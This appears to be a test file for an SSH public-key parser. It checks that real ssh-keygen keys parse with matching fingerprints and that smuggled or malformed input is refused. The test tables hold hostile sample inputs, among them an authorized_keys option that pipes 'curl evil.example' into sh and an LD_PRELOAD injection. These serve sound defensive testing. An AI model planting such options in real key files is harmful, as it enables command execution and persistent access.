import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fingerprintOf, MIN_RSA_BITS, parsePublicKey, PublicKeyError } from '../../src/ssh/public-key';

/**
 * The public key line as sshd reads authorized_keys: real keys from ssh-keygen are accepted with the
 * fingerprint ssh-keygen prints; anything that could make the container's authorized_keys say more
 * than "this key may log in" is refused, and no message echoes the key material.
 */

// Made when the file loads: the tables below are built from them before any hook runs.
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'public-key-'));
const keys: Record<string, string> = {};
for (const [name, args] of Object.entries({
  ed25519: ['-t', 'ed25519'],
  ecdsa256: ['-t', 'ecdsa', '-b', '256'],
  ecdsa384: ['-t', 'ecdsa', '-b', '384'],
  ecdsa521: ['-t', 'ecdsa', '-b', '521'],
  rsa: ['-t', 'rsa', '-b', '2048'],
})) {
  const file = path.join(dir, name);
  execFileSync('ssh-keygen', ['-q', ...args, '-N', '', '-C', `${name}@laptop`, '-f', file]);
  keys[name] = fs.readFileSync(`${file}.pub`, 'utf8');
}
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

const sshKeygenFingerprint = (name: string): string =>
  execFileSync('ssh-keygen', ['-l', '-E', 'sha256', '-f', path.join(dir, `${name}.pub`)], {
    encoding: 'utf8',
  }).split(' ')[1]!;

const refused = (text: string): PublicKeyError => {
  try {
    parsePublicKey(text, 'the key');
  } catch (err) {
    expect(err).toBeInstanceOf(PublicKeyError);
    const e = err as PublicKeyError;
    expect(e.exitCode).toBe(2);
    expect(e.message).not.toMatch(/\n/);
    return e;
  }
  throw new Error(`accepted: ${JSON.stringify(text)}`);
};

const ed25519 = () => keys['ed25519']!.trim();
const blobOf = (line: string) => line.split(' ')[1]!;

describe('real keys', () => {
  it.each([
    ['ed25519', 'ssh-ed25519', 256],
    ['ecdsa256', 'ecdsa-sha2-nistp256', 256],
    ['ecdsa384', 'ecdsa-sha2-nistp384', 384],
    ['ecdsa521', 'ecdsa-sha2-nistp521', 521],
    ['rsa', 'ssh-rsa', 2048],
  ])('%s: type, size, comment and the fingerprint ssh-keygen prints', (name, type, bits) => {
    const key = parsePublicKey(keys[name]!);
    expect(key).toMatchObject({ type, bits, comment: `${name}@laptop` });
    expect(key.fingerprint).toBe(sshKeygenFingerprint(name));
    expect(key.line).toBe(keys[name]!.trim());
  });

  it('takes CRLF, trailing blank lines, surrounding blanks and no comment; keeps inner comment spaces', () => {
    const [type, blob] = ed25519().split(' ');
    expect(parsePublicKey(`${ed25519()}\r\n`).line).toBe(ed25519());
    expect(parsePublicKey(`${ed25519()}\n\n  \n`).line).toBe(ed25519());
    expect(parsePublicKey(`  ${type} ${blob}  `).line).toBe(`${type} ${blob}`);
    expect(parsePublicKey(`${type}\t${blob}\tJane Doe's laptop (work)`).comment).toBe(
      "Jane Doe's laptop (work)",
    );
  });

  it('fingerprints as OpenSSH does: SHA256 of the blob, base64 without padding', () => {
    const fp = fingerprintOf(Buffer.from(blobOf(ed25519()), 'base64'));
    expect(fp).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
  });
});

describe('smuggled options are refused', () => {
  it.each([
    'command="curl evil.example | sh"',
    'restrict,command="/bin/true"',
    'no-pty',
    'from="*"',
    'environment="LD_PRELOAD=/tmp/x.so"',
    'permitopen="10.0.0.1:22"',
    'cert-authority',
    'tunnel="1"',
    'NO-PTY',
  ])('%s before the key', (option) => {
    const e = refused(`${option} ${ed25519()}`);
    expect(e.message).toMatch(/option|before the key type/);
    expect(e.message).not.toContain(blobOf(ed25519()));
  });

  it('an option with spaces in its quotes', () => {
    expect(refused(`command="echo a b c" ${ed25519()}`).message).toMatch(/starts with the option "command"/);
  });

  it('an unknown word before a real key type', () => {
    expect(refused(`frobnicate ${ed25519()}`).message).toMatch(
      /"frobnicate" before the key type ssh-ed25519/,
    );
  });
});

describe('malformed keys are refused', () => {
  const [type, blob] = ed25519().split(' ') as [string, string];
  const raw = Buffer.from(blob, 'base64');
  const wire = (...parts: Buffer[]) =>
    Buffer.concat(
      parts.flatMap((p) => [Buffer.from([0, 0, 0, 0].map((_, i) => (p.length >>> (24 - 8 * i)) & 255)), p]),
    );

  it.each([
    ['empty', '', /empty/],
    ['blank lines only', '\n \n', /empty/],
    ['two keys', `${ed25519()}\n${keys['rsa']!}`, /2 lines; give exactly one key/],
    ['a second line hidden after CR LF', `${ed25519()}\r\ncommand="x" ${ed25519()}`, /2 lines/],
    ['a NUL in the comment', `${type} ${blob} jane\u0000root`, /control character U\+0000/],
    ['an escape sequence in the comment', `${type} ${blob} \u001b[2Jjane`, /control character U\+001b/],
    ['a bare CR inside', `${type} ${blob} a\rb`, /control character U\+000d/],
    ['no key after the type', `${type}`, /no key after it/],
    ['base64 with junk', `${type} ${blob.slice(0, 20)}!${blob.slice(21)}`, /not valid base64/],
    ['base64 with a bad length', `${type} ${blob.slice(0, -1)}`, /not valid base64/],
    ['non-canonical base64 padding bits', `${type} ${blob.slice(0, -2)}B=`, /not valid base64|malformed/],
    ['a truncated blob', `${type} ${raw.subarray(0, 30).toString('base64')}`, /malformed/],
    [
      'bytes after the key',
      `${type} ${Buffer.concat([raw, Buffer.from([0, 0, 0, 1, 7])]).toString('base64')}`,
      /unexpected bytes/,
    ],
    ['an inner type that differs', `ssh-rsa ${blob}`, /says ssh-rsa but the key inside is "ssh-ed25519"/],
    [
      'a 31-byte ed25519 key',
      `${type} ${wire(Buffer.from(type), Buffer.alloc(31, 1)).toString('base64')}`,
      /32 bytes/,
    ],
    ['an unknown type', `ssh-foo ${blob}`, /does not start with a known key type \("ssh-foo"\)/],
    ['a DSA key', `ssh-dss ${blob}`, /DSA key/],
    ['a certificate', `ssh-ed25519-cert-v01@openssh.com ${blob}`, /certificate/],
    ['an oversized paste', `${type} ${'A'.repeat(9000)}`, /at most 8192/],
    // The private half of a key made above: pasting the wrong file is the likeliest mistake.
    ['a private key', fs.readFileSync(path.join(dir, 'ed25519'), 'utf8'), /is a private key/],
    ['a PuTTY key file', 'PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\n', /is a private key/],
  ])('%s', (_, text, message) => {
    const e = refused(text);
    expect(e.message).toMatch(message);
    expect(e.message).not.toContain(blob);
  });

  it(`RSA under ${MIN_RSA_BITS} bits`, () => {
    const { publicKey } = generateKeyPairSync('rsa', { modulusLength: 1024 });
    const jwk = publicKey.export({ format: 'jwk' });
    const mpint = (b64url: string) => {
      const b = Buffer.from(b64url, 'base64url');
      return b[0]! & 0x80 ? Buffer.concat([Buffer.from([0]), b]) : b;
    };
    const line = `ssh-rsa ${wire(Buffer.from('ssh-rsa'), mpint(jwk.e!), mpint(jwk.n!)).toString('base64')}`;
    expect(refused(line).message).toMatch(/is a 1024-bit RSA key; at least 2048/);
  });

  it('an ECDSA key on the wrong curve', () => {
    const ecdsa = keys['ecdsa256']!.trim().split(' ')[1]!;
    expect(refused(`ecdsa-sha2-nistp384 ${ecdsa}`).message).toMatch(/says ecdsa-sha2-nistp384/);
  });
});
